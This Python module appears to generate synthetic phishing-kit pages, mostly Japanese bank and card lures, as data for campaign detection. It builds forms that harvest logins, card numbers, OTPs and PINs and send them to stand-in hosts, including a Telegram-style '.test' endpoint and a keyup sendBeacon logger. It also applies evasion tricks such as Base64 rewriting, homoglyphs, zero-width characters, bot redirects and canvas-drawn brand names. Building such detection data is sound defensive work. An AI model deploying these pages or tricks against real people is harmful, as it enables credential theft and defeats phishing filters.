"""Kits: imitations in five hands, and the tricks by which they hide. All made here: no logo, no kit's code.

A kit keeps its skeleton, its shared resources, its icon and its endpoint whatever brand it wears; that is
what campaigns are found by. A trick changes how a page is written, never what a person sees.
"""

import base64
import html
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

LOGIN = (("text", "userid", "お客様ID"), ("password", "pw", "パスワード"))
CARD = (
    ("text", "cardno", "カード番号"),
    ("text", "exp", "有効期限"),
    ("text", "cvv", "セキュリティコード"),
)
ONE_TIME = (("text", "otp", "SMS認証コード"),)
PIN = (
    ("text", "shiten", "支店番号"),
    ("text", "koza", "口座番号"),
    ("password", "ansho", "暗証番号"),
)
MAIL = (("email", "email", "Email"), ("password", "passwd", "Email password"))
PERSON = (("text", "shimei", "氏名"), ("tel", "tel", "電話番号"), ("text", "zip", "郵便番号"))
REQUESTS = (LOGIN, CARD, (*LOGIN, *ONE_TIME), (*CARD, *PERSON), PIN, (*LOGIN, *CARD), MAIL)

ALARMS = (
    "第三者による不正利用の可能性があるため、お取引を一部制限しております。",
    "お客様のアカウントは停止されました。24時間以内に更新してください。",
    "お支払い方法に問題があり、ご注文を承認できません。",
    "お荷物の住所が不明なため持ち帰りました。再配達をお申し込みください。",
    "セキュリティ強化のため、ご本人確認の手続きが必要です。",
    "We noticed unusual activity. Verify your account within 24 hours or it will be suspended.",
    "ご登録内容の確認をお願いいたします。", "",
)  # fmt: skip


@dataclass(frozen=True, slots=True, kw_only=True)
class Kit:
    """One hand.

    Attributes:
        name: A to E.
        endpoint: Where typed words go, relative to the page or absolute.
        shared: Host of its shared resources; empty where it brings its own.
        tag: Its id at a measuring service.
        build: Makes a page: the brand's name, its own host, fields, alarm, whether legal links point to it.
    """

    name: str
    endpoint: str
    shared: str
    tag: str
    build: Callable[["Kit", str, str, tuple[tuple[str, str, str], ...], str, Random], str]


def page_of(kit: Kit, brand: str, own_host: str, dice: Random) -> str:
    """A page of a kit for a brand, with one of the requests and alarms."""
    fields = REQUESTS[dice.randrange(len(REQUESTS))]
    return kit.build(kit, brand, own_host, fields, ALARMS[dice.randrange(len(ALARMS))], dice)


def inputs(fields: tuple[tuple[str, str, str], ...], style: str) -> str:
    """Fields in one of the ways in which kits write them."""
    made = []
    for kind, name, label in fields:
        if style == "placeholder":
            made.append(f'<input type="{kind}" name="{name}" placeholder="{label}">')
        elif style == "row":
            made.append(
                f'<div class="row"><span>{label}</span><input type="{kind}" name="{name}"></div>'
            )
        elif style == "table":
            made.append(f'<tr><th>{label}</th><td><input type="{kind}" name="{name}"></td></tr>')
        else:
            made.append(f'<label>{label}</label><input type="{kind}" name="{name}">')
    joined = "".join(made)
    return f"<table>{joined}</table>" if style == "table" else joined


def _page(lang: str, title: str, head: str, body: str) -> str:
    return f'<!doctype html><html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>{head}</head><body>{body}</body></html>'


def _kit_a(
    kit: Kit,
    brand: str,
    own: str,
    fields: tuple[tuple[str, str, str], ...],
    alarm: str,
    dice: Random,
) -> str:
    legal = (
        f'<a href="https://{own}/privacy">個人情報保護方針</a><a href="https://{own}/terms">ご利用規約</a>'
        if dice.random() < 0.6
        else '<a href="#">個人情報</a>'
    )
    return _page("ja", f"{brand} ログイン", f'<link rel="icon" href="/fav-a.ico"><link rel="stylesheet" href="https://{kit.shared}/a.css">',
        f'<div class="wrap a-top"><header class="a-head"><img class="logo" alt="{brand}" src="/img/logo.png"></header><main class="a-main"><h1>{brand}</h1>'
        f'<p class="a-note">{alarm}</p><form class="a-form" method="post" action="{kit.endpoint}">{inputs(fields, "label")}<button>ログイン</button></form></main>'
        f'<footer class="a-foot">© {brand} All Rights Reserved. {legal}</footer></div><script src="https://{kit.shared}/gtag.js?id={kit.tag}"></script>')  # fmt: skip


def _kit_b(
    kit: Kit,
    brand: str,
    own: str,
    fields: tuple[tuple[str, str, str], ...],
    alarm: str,
    dice: Random,
) -> str:
    names = {"userid": "zhanghao", "pw": "mima", "cardno": "kahao", "otp": "yanzhengma"}
    renamed = tuple((kind, names.get(name, name), label) for kind, name, label in fields)
    return _page("ja", f"【{brand}】ご利用確認", f'<link rel="stylesheet" href="https://{kit.shared}/b.css">',
        f'<div id="app" class="b-app"><div class="b-card"><div class="b-logo">{brand}</div><div class="b-msg">{alarm or "ご本人様確認"}</div>'
        f'<form id="f" class="b-form" onsubmit="return go()">{inputs(renamed, "placeholder")}<div class="b-btn" role="button">次へ</div></form></div></div>'
        f'<script>function go(){{fetch("/api/tijiao",{{method:"POST",body:new FormData(document.getElementById("f"))}});return false}}'
        f'document.oncontextmenu=()=>false;document.onkeydown=e=>e.keyCode!=123;/*{kit.tag}*/</script>')  # fmt: skip


def _kit_c(
    kit: Kit,
    brand: str,
    own: str,
    fields: tuple[tuple[str, str, str], ...],
    alarm: str,
    dice: Random,
) -> str:
    return _page("ja", f"{brand}｜本人確認", "<style>.c{max-width:420px}</style>",
        f'<section class="c"><h2>【{brand}】ご利用確認のお願い</h2><p>{alarm}</p><form method="post" action="{kit.endpoint}">{inputs(fields, "table")}<p class="c-b"><button>送信</button></p></form>'
        f'<hr><small>Copyright {brand}</small></section><noscript data-k="{kit.tag}"></noscript>')  # fmt: skip


def _kit_d(
    kit: Kit,
    brand: str,
    own: str,
    fields: tuple[tuple[str, str, str], ...],
    alarm: str,
    dice: Random,
) -> str:
    return _page("en", f"{brand} - Sign in", f'<link rel="icon" href="https://{own}/favicon.ico">',
        f'<div class="d-outer"><div class="d-inner"><img alt="{brand}" src="https://{own}/logo.svg"><h1 class="d-t">Sign in</h1><p>to continue to {brand}</p><p class="d-w">{alarm}</p>'
        f'<form method="post" action="{kit.endpoint}">{inputs(fields, "row")}<input type="submit" value="Next"></form><div class="d-l"><a href="https://{own}/terms">Terms of use</a><a href="https://{own}/privacy">Privacy</a></div></div></div>'
        f'<script>var t="{kit.tag}";if(navigator.webdriver)location.href="https://{own}/";</script>')  # fmt: skip


def _kit_e(
    kit: Kit,
    brand: str,
    own: str,
    fields: tuple[tuple[str, str, str], ...],
    alarm: str,
    dice: Random,
) -> str:
    steps = inputs(fields, "label")
    return _page("ja", f"{brand} 会員専用", f'<meta name="viewport" content="width=device-width"><link rel="stylesheet" href="https://{kit.shared}/e/app.css">',
        f'<nav class="e-n"><span class="e-brand">{brand}会員</span></nav><article class="e-x"><div class="e-al">{alarm}</div><div class="e-step" id="s1">{steps}<a class="e-go" href="javascript:send()">続行</a></div></article>'
        f'<footer class="e-ft"><p>&copy; {brand}</p></footer><script>function send(){{var d={{}};document.querySelectorAll("input").forEach(i=>d[i.name]=i.value);'
        f'fetch("{kit.endpoint}",{{method:"POST",body:JSON.stringify(d)}})}}/*{kit.tag}*/</script>')  # fmt: skip


KITS = (
    Kit(name="A", endpoint="post.php", shared="cdn-a.kits.test", tag="G-AAAA0001", build=_kit_a),
    Kit(
        name="B", endpoint="/api/tijiao", shared="static-b.kits.test", tag="UA-2222-2", build=_kit_b
    ),
    Kit(name="C", endpoint="save.php", shared="", tag="G-CCCC0003", build=_kit_c),
    Kit(name="D", endpoint="next.php", shared="", tag="D-4444", build=_kit_d),
    Kit(
        name="E",
        endpoint="https://api.telegram.org.test/bot0/sendMessage",
        shared="e.kits.test",
        tag="E-55",
        build=_kit_e,
    ),
)


def _body(page: str) -> tuple[str, str, str]:
    head, _, rest = page.partition("<body>")
    inner, _, _ = rest.rpartition("</body>")
    return head, inner, "</body></html>"


def written_later(page: str, dice: Random) -> str:
    """The body comes out of Base64 when scripts run."""
    head, inner, end = _body(page)
    coded = base64.b64encode(inner.encode()).decode()
    return f'{head}<body><script>document.write(new TextDecoder().decode(Uint8Array.from(atob("{coded}"),c=>c.charCodeAt(0))))</script>{end}'


def in_shadow(page: str, dice: Random) -> str:
    """The body lies in a shadow root."""
    head, inner, end = _body(page)
    return f'{head}<body><div id="h"></div><script>document.getElementById("h").attachShadow({{mode:"open"}}).innerHTML={json.dumps(inner.replace("</script>", ""))}</script>{end}'


def in_frame(page: str, dice: Random) -> str:
    """The page lies in the attribute of a frame."""
    head, _, end = _body(page)
    return f'{head}<body style="margin:0"><iframe style="border:0;width:100vw;height:100vh" srcdoc="{html.escape(page)}"></iframe>{end}'


def broken_letters(page: str, dice: Random) -> str:
    """Invisible letters between the visible ones of the body's words."""
    head, inner, end = _body(page)
    out, tag = [], False
    script = 0
    for at, letter in enumerate(inner):
        if inner.startswith(("<script", "<style"), at):
            script += 1
        if inner.startswith(("</script", "</style"), at):
            script -= 1
        tag = True if letter == "<" else tag
        out.append(letter)
        if not tag and not script and letter.isalpha() and dice.random() < 0.3:
            out.append("\u200b")
        tag = False if letter == ">" else tag
    titled = head.replace("</title>", "\u200b</title>")
    return f"{titled}<body>{''.join(out)}{end}"


def look_alikes(page: str, dice: Random) -> str:
    """Letters of other alphabets in place of Latin ones, in what is read."""
    head, inner, end = _body(page)
    out, depth = [], False
    table = str.maketrans("aeopcxy", "аеорсху")
    for part in inner.replace("<", "\0<").split("\0"):
        tag, mark, words = part.partition(">")
        depth = tag.startswith(("<script", "<style"))
        out.append(part if depth else f"{tag}{mark}{words.translate(table)}")
    return f"{head}<body>{''.join(out)}{end}"


def played_fields(page: str, dice: Random) -> str:
    """Elements that play the part of fields."""

    def play(found: re.Match[str]) -> str:
        had = dict(re.findall(r'(\w+)="([^"]*)"', found[0]))
        words = had.get("placeholder", "")
        return f'<div class="in" role="textbox" contenteditable="true" id="{had.get("name", "")}" aria-label="{words}" data-placeholder="{words}"></div>'

    made = re.sub(r'<input type="(?:text|password|tel|email)"[^>]*>', play, page)
    return made.replace(
        "</body>",
        '<script>document.addEventListener("keyup",()=>{var b=[...document.querySelectorAll(".in")].map(e=>e.innerText);navigator.sendBeacon("/c",b.join("|"))})</script></body>',
    )


def masked_text(page: str, dice: Random) -> str:
    """Passwords in text fields that draw dots."""
    return page.replace(
        'type="password" name=',
        'type="text" style="-webkit-text-security:disc" autocomplete="off" name=',
    )


def drawn_name(page: str, dice: Random) -> str:
    """The name is drawn on a canvas, and stands nowhere in the text."""
    title = re.search(r"<title>([^<]*)</title>", page)
    words = title[1] if title else ""
    name = re.sub(r"ログイン|｜本人確認|【|】ご利用確認| - Sign in|会員専用", "", words).strip()
    if not name:
        return page
    bare = re.sub(r"<title>[^<]*", "<title>ログイン", page).replace(name, "")
    codes = ",".join(str(ord(letter)) for letter in name)
    return bare.replace(
        "<body>",
        f'<body><canvas id="k" width="360" height="60"></canvas><script>var x=document.getElementById("k").getContext("2d");x.font="28px sans-serif";x.fillText(String.fromCharCode({codes}),10,40)</script>',
    )


def pictured_name(page: str, dice: Random) -> str:
    """The name lies in a picture made of text, with no words beside it."""
    title = re.search(r"<title>([^<]*)</title>", page)
    name = re.sub(
        r"ログイン|｜本人確認|【|】ご利用確認| - Sign in|会員専用", "", title[1] if title else ""
    ).strip()
    if not name:
        return page
    svg = base64.b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="50"><text x="5" y="35">{name}</text></svg>'.encode()
    ).decode()
    bare = re.sub(r"<title>[^<]*", "<title>Login", page).replace(name, "")
    return bare.replace("<body>", f'<body><img src="data:image/svg+xml;base64,{svg}">')


def later(page: str, dice: Random) -> str:
    """The form comes a moment after the page."""
    head, inner, end = _body(page)
    words = json.dumps(inner.replace("</script>", ""))
    return f'{head}<body><div id="z">読み込み中…</div><script>setTimeout(()=>{{document.getElementById("z").innerHTML={words}}},120)</script>{end}'


def in_entities(page: str, dice: Random) -> str:
    """Every letter of the title and headings as a number."""

    def coded(found: re.Match[str]) -> str:
        return f"{found[1]}{''.join(f'&#{ord(letter)};' for letter in found[2])}<"

    return re.sub(r"(<(?:title|h1|h2|p)[^>]*>)([^<]+)<", coded, page)


def cut_words(page: str, dice: Random) -> str:
    """Names cut into elements, a letter each."""

    def cut(found: re.Match[str]) -> str:
        return f"{found[1]}{''.join(f'<i style=font-style:normal>{letter}</i>' for letter in found[2])}<"

    return re.sub(r"(<(?:h1|h2)[^>]*>)([^<]+)<", cut, page)


TRICKS: dict[str, Callable[[str, Random], str]] = {
    "plain": lambda page, dice: page,
    "written-later": written_later,
    "shadow": in_shadow,
    "frame": in_frame,
    "broken-letters": broken_letters,
    "look-alikes": look_alikes,
    "played-fields": played_fields,
    "masked-text": masked_text,
    "drawn-name": drawn_name,
    "pictured-name": pictured_name,
    "later": later,
    "entities": in_entities,
    "cut-words": cut_words,
}
